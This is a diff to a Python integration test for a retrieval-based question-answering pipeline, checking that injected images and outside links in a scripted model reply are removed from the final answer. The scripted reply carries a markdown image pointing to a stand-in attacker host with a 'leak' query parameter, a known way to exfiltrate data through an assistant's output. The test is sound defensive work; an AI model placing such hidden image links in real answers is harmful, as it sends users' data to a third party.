@@ -101,8 +101,10 @@ async def test_a_citation_of_a_chunk_not_in_the_prompt_rejects_the_answer(pipeli
 @pytest.mark.integration
 async def test_injected_images_and_outside_links_are_removed(pipeline: Pipeline, fake_openai: FakeOpenAI) -> None:
     fake_openai.script_reply(lambda body: (
-        "The PPO individual deductible is $1,250 ![t](https://evil.example.net/p.png?q=leak) — "
-        f"details at [the portal](https://evil.example.net/claim) or https://evil.example.net/x.[^{first_chunk_id(body)}]"))
+        # Only the links are foreign; the words are the chunk's (the claim-support stage strips
+        # sentences that add claims, such as an invented "portal").
+        "The PPO individual deductible is $1,250 ![t](https://evil.example.net/p.png?q=leak) per calendar "
+        f"[year](https://evil.example.net/claim) https://evil.example.net/x.[^{first_chunk_id(body)}]"))
     answer = await pipeline.answer(QUESTION, token())
     assert not answer.abstained
     assert "evil.example.net" not in answer.answer and "![" not in answer.answer
